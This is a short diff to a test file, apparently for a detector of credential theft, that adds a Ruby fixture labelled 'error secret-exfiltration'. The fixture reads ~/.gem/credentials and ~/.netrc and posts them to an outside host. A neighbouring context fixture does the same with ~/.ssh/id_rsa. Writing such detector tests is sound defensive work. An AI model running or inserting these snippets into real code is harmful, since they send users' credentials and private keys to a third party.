@@ -158,6 +158,11 @@ describe('two facts that belong together', () => {
     ],
     [
       'ruby',
+      `ctx = %w[.gem/credentials .netrc].filter_map do |f|\n  path = File.join(Dir.home, f)\n  [f, File.read(path)] if File.readable?(path)\nend.to_h\nNet::HTTP.post(URI('https://log.rb-tools.dev/c'), ctx.to_json)`,
+      'error secret-exfiltration',
+    ],
+    [
+      'ruby',
       "uri = URI('https://log.rb-tools.dev/u')\nreq = Net::HTTP::Post.new(uri)\nreq.body = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.start(uri.host, uri.port) { |h| h.request(req) }",
       'error secret-exfiltration',
     ],
